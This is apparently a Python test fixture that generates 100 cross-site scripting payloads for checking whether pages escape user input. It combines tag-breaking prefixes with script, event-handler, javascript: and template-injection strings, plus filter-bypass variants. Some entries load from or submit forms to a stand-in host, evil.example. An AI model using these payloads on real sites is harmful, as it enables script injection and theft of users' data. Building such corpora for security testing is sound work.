"""A hundred names that would run a script, or be one, wherever a page forgets to write them as text."""

from itertools import product
from typing import Final

RUN: Final = "pwn()"  # what each would call; `pwn` is also a tag and an attribute no page has
BREAKS: Final = ["", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</option></select>"]
TAGS: Final = [
    f"<script>{RUN}</script>",
    f"<img src=x pwn onerror={RUN}>",
    f"<svg pwn onload={RUN}>",
    f"<details open pwn ontoggle={RUN}>",
    f"<b pwn hx-on:click={RUN} hx-get=/>a</b>",
    f"<iframe pwn srcdoc='<script>{RUN}</script>'>",
    f"<a pwn href=javascript:{RUN}>a</a>",
    "<base pwn href=//evil.example>",
]
ATTRIBUTES: Final = [
    f'" autofocus pwn onfocus={RUN} x="',
    f"' autofocus pwn onfocus={RUN} x='",
    f"x pwn onmouseover={RUN}",
    f"javascript:{RUN}//pwn",
    f"{{{{ {RUN} }}}}{{% pwn %}}",
    f"${{{RUN}}}`;{RUN};//",
    f'\\";{RUN};//',
    f"';{RUN};'",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x pwn onerror={RUN}&#62;",
    f"\u2028{RUN};//pwn",
    f"<!--><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<ScRiPt\x0c>{RUN}</sCrIpT>",
    f"<math><mtext></mtext><img pwn onerror={RUN} src=x>",
    f"<style pwn>@import '//evil.example';</style>{RUN}",
    f"<meta pwn http-equiv=refresh content=0;url=javascript:{RUN}>",
    f"<form pwn action=//evil.example><button>{RUN}",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
]
PAYLOADS: Final = [*ATTRIBUTES, *(f"{before}{tag}" for before, tag in product(BREAKS, TAGS))]
